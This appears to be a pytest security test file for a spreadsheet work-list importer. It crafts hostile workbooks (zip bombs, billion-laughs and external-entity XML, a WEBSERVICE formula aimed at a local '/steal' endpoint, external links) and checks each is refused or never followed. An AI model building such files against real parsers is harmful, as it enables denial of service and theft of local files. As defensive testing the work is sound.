"""Hostile workbooks: zip bombs, XML entity expansion, formulas and links that must never run.

Each file is built the way an attacker would build it (zip surgery on a good workbook) and fed to
the real work-list import. The answer is always a clear refusal naming the file, quickly, and
before anything large is parsed; nothing is imported.
"""

from __future__ import annotations

import os
import re
import socket
import subprocess
import sys
import threading
import time
from decimal import Decimal
from pathlib import Path

import openpyxl
import pytest

from estimator import readers
from estimator.errors import UserError, ValidationFailed
from estimator.model import Programme
from estimator.rates import current_library
from estimator.readers import UnreadableFile, read_rows
from estimator.worklist import import_worklist
from tests.reliability import workbooks as wb
from tests.reliability.states import ROOT, make_programme, state


@pytest.fixture
def good(tmp_path: Path) -> Path:
    return wb.write_xlsx(tmp_path / "good.xlsx", wb.good_rows())


@pytest.fixture(scope="module")
def excel_like(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A workbook with a shared-strings table, as Excel and LibreOffice write them (openpyxl writes inline strings)."""
    folder = tmp_path_factory.mktemp("libreoffice")
    return wb.libreoffice(wb.write_csv(folder / "worklist.csv", wb.good_rows()), "xlsx", folder)


def _import(path: Path) -> Programme:
    prog = make_programme(1, 5)
    before = state(prog)
    try:
        import_worklist(prog, path, current_library().book)
    except UserError:
        assert state(prog) == before, "a refused import changed the programme"
        raise
    return prog


def _refused(path: Path, match: str) -> str:
    started = time.perf_counter()
    with pytest.raises(UserError, match=match) as info:
        _import(path)
    assert time.perf_counter() - started < 30, "a hostile file must be refused quickly, not parsed"
    message = str(info.value)
    assert path.name in message and "Traceback" not in message
    return message


@pytest.fixture
def openpyxl_must_not_parse(monkeypatch: pytest.MonkeyPatch) -> None:
    """Prove that a refusal happened before openpyxl saw the file."""

    def forbidden(*args: object, **kwargs: object) -> None:
        raise AssertionError("openpyxl was asked to parse a file that should have been refused before")

    monkeypatch.setattr(openpyxl, "load_workbook", forbidden)


def test_a_good_workbook_imports(good: Path) -> None:
    prog = _import(good)
    assert sum(len(b.items) for f in prog.facilities for b in f.bills) == 5 + 6


def test_zip_bomb_is_refused_before_openpyxl_parses_it(good: Path, tmp_path: Path, openpyxl_must_not_parse: None) -> None:
    bomb = wb.zip_bomb(good, tmp_path / "bomb.xlsx", megabytes=300)
    assert bomb.stat().st_size < 2_000_000
    message = _refused(bomb, "zip bomb")
    assert "300 MB" in message or "314 MB" in message


def test_a_diluted_zip_bomb_is_refused_by_the_per_part_ratio(good: Path, tmp_path: Path, openpyxl_must_not_parse: None) -> None:
    """A random-bytes part stored uncompressed drags the overall ratio under the limit; the bomb part
    alone is still ~1000x. Before the per-part check this went to openpyxl: 100 MB of XML to parse."""
    bomb = wb.zip_bomb(good, tmp_path / "diluted.xlsx", megabytes=100, dilute_with_random=1_500_000)
    with __import__("zipfile").ZipFile(bomb) as zf:
        infos = zf.infolist()
    overall = sum(i.file_size for i in infos) / sum(i.compress_size for i in infos)
    assert overall < readers.MAX_RATIO, "the overall ratio alone must not catch this one"
    _refused(bomb, r"part xl/worksheets/sheet1\.xml unpacks to .*zip bomb")


def test_a_bomb_that_lies_about_its_size_ends_in_a_clear_error(good: Path, tmp_path: Path) -> None:
    """The zip directory says 2 KB; zipfile stops at the declared size, so the XML is cut short."""
    bomb = wb.lying_sizes(good, tmp_path / "liar.xlsx", megabytes=200)
    _refused(bomb, "cannot be read|damaged")


def test_too_many_parts(good: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(readers, "MAX_ENTRIES", 12)
    path = good
    for k in range(5):
        path = wb.add_part(path, tmp_path / f"parts{k}.xlsx", f"xl/media/p{k}.bin", b"x")
    _refused(path, "holds 14 files")


@pytest.mark.parametrize("part", [wb.SHEET, "xl/sharedStrings.xml"])
def test_billion_laughs_is_refused(good: Path, excel_like: Path, tmp_path: Path, part: str) -> None:
    src = good if part == wb.SHEET else excel_like  # openpyxl writes inline strings, Excel a shared table
    bad = wb.rewrite_part(src, tmp_path / "laughs.xlsx", part, wb.with_entities)
    assert b"&lol9;" in __import__("zipfile").ZipFile(bad).read(part)
    _refused(bad, "entity-expansion attack")


def test_external_entity_cannot_read_local_files(excel_like: Path, tmp_path: Path) -> None:
    secret = tmp_path / "secret.txt"
    secret.write_text("TOP-SECRET-PASSWORD")
    doctype = wb.external_entity(secret)

    def inject(xml: bytes) -> bytes:
        body = xml.split(b"?>", 1)[1]
        assert b"Internal plaster, room 0" in body
        return doctype + body.replace(b"Internal plaster, room 0", b"&ext;")

    bad = wb.rewrite_part(excel_like, tmp_path / "xxe.xlsx", "xl/sharedStrings.xml", inject)
    message = _refused(bad, "entity-expansion attack")
    assert "TOP-SECRET" not in message


def test_openpyxl_really_uses_defusedxml() -> None:
    assert openpyxl.DEFUSEDXML is True
    from openpyxl.xml import functions

    assert functions.iterparse.__module__.startswith("defusedxml")


def test_workbooks_are_not_read_when_defusedxml_is_switched_off(good: Path, tmp_path: Path) -> None:
    env = {**os.environ, "OPENPYXL_DEFUSEDXML": "False", "PYTHONPATH": str(ROOT), "BOQ_DATA_DIR": str(tmp_path)}
    code = "import sys, pathlib; from estimator.readers import read_rows; list(read_rows(pathlib.Path(sys.argv[1])))"
    done = subprocess.run([sys.executable, "-c", code, str(good)], env=env, capture_output=True, text=True, timeout=120)
    assert done.returncode == 1
    assert "openpyxl is not using defusedxml" in done.stderr


def _with_formula(tmp_path: Path, formula: str, cached: str | None) -> Path:
    """Quantity of row 2 is a formula; `cached` is the value Excel would have saved (None: never calculated)."""
    src = wb.write_xlsx(tmp_path / "plain.xlsx", wb.good_rows(), edit=lambda ws: ws.__setitem__("D2", formula))

    def add_value(xml: bytes) -> bytes:
        changed, count = re.subn(rb'(<c r="D2"[^>]*>\s*<f>.*?</f>)\s*(<v\s*/>|<v></v>)',
                                 rb"\g<1><v>" + (cached or "").encode() + rb"</v>", xml)
        assert count == 1
        return changed

    return wb.rewrite_part(src, tmp_path / "formula.xlsx", wb.SHEET, add_value) if cached else src


def test_a_formula_without_a_saved_value_is_named_not_guessed(tmp_path: Path) -> None:
    path = _with_formula(tmp_path, "=1+1", None)
    rows = dict(read_rows(path))
    assert isinstance(rows[2][3], readers.FormulaWithoutValue)
    with pytest.raises(ValidationFailed) as info:
        _import(path)
    assert "formula.xlsx" not in str(info.value)  # this one is the unmodified file
    assert "row 2, column 'Quantity': holds the formula =1+1 but no saved value" in str(info.value)


def test_a_formula_with_a_saved_value_gives_that_value(tmp_path: Path) -> None:
    path = _with_formula(tmp_path, "=1+1", "2")
    assert dict(read_rows(path))[2][3] == 2
    prog = _import(path)
    imported = [it for f in prog.facilities for b in f.bills for it in b.items if it.description == "Internal plaster, room 0"]
    assert [it.quantity for it in imported] == [Decimal(2)]


def test_links_and_web_formulas_are_never_followed(tmp_path: Path) -> None:
    """A returned bid whose Quantity is =WEBSERVICE(...) of a server we run, with a saved value: we read the
    saved value and the server never hears from us. External-link parts are not loaded (keep_links=False)."""
    server = socket.socket()
    server.bind(("127.0.0.1", 0))
    server.listen(5)
    server.settimeout(0.2)
    port = server.getsockname()[1]
    contacted: list[bytes] = []
    stop = threading.Event()

    def listen() -> None:
        while not stop.is_set():
            try:
                conn, _ = server.accept()
            except TimeoutError:
                continue
            contacted.append(conn.recv(1024))
            conn.close()

    thread = threading.Thread(target=listen, daemon=True)
    thread.start()
    formula = f'=WEBSERVICE("http://127.0.0.1:{port}/steal")+\'[http://127.0.0.1:{port}/book.xlsx]Sheet1\'!A1'
    path = _with_formula(tmp_path, formula, "7")
    linked = wb.add_part(path, tmp_path / "linked.xlsx", "xl/externalLinks/externalLink1.xml",
                         b'<?xml version="1.0"?><externalLink xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
                         b'<externalBook r:id="rId1" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"/>'
                         b"</externalLink>")
    prog = _import(linked)
    time.sleep(0.5)  # time for a connection, had one been made
    stop.set()
    thread.join()
    server.close()
    assert contacted == []
    quantities = [it.quantity for f in prog.facilities for b in f.bills for it in b.items if it.description == "Internal plaster, room 0"]
    assert quantities == [Decimal(7)]


def test_a_wrong_dimension_tag_no_longer_cuts_rows_off(good: Path, tmp_path: Path) -> None:
    """Files from some generators declare <dimension ref="A1:B2">; openpyxl's read-only mode then
    silently dropped every row and column outside it, a partial import without a word."""
    lying = wb.rewrite_part(good, tmp_path / "dimension.xlsx", wb.SHEET,
                            lambda xml: re.sub(rb'<dimension ref="[^"]*"', b'<dimension ref="A1:B2"', xml))
    rows = list(read_rows(lying))
    assert len(rows) == 7 and rows[-1][1][2] == "Tank 5"
    prog = _import(lying)
    assert sum(len(b.items) for f in prog.facilities for b in f.bills) == 5 + 6


def test_damaged_sheet_xml_names_the_row(good: Path, tmp_path: Path) -> None:
    cut = wb.rewrite_part(good, tmp_path / "cut.xlsx", wb.SHEET, lambda xml: xml[: len(xml) * 2 // 3])
    message = _refused(cut, r"row \d+ cannot be read")
    assert "\n" not in message


def test_a_corrupted_download(good: Path, tmp_path: Path) -> None:
    """Flipped bytes inside the sheet's compressed data: a zlib or CRC error while rows are read."""
    message = _refused(wb.corrupt_part(good, tmp_path / "corrupted.xlsx", wb.SHEET), r"row \d+ cannot be read|cannot be read")
    assert "\n" not in message


def test_bad_shared_string_index(excel_like: Path, tmp_path: Path) -> None:
    bad = wb.rewrite_part(excel_like, tmp_path / "index.xlsx", wb.SHEET,
                          lambda xml: re.sub(rb'(t="s"[^>]*>\s*<v>)\d+(</v>)', rb"\g<1>99999\g<2>", xml, count=1))
    assert bad.read_bytes() != excel_like.read_bytes()
    _refused(bad, r"row 1 cannot be read \(IndexError")


def test_an_excel_like_workbook_imports(excel_like: Path) -> None:
    prog = _import(excel_like)
    assert sum(len(b.items) for f in prog.facilities for b in f.bills) == 5 + 6


def test_unreadable_file_is_a_user_error() -> None:
    assert issubclass(UnreadableFile, UserError)
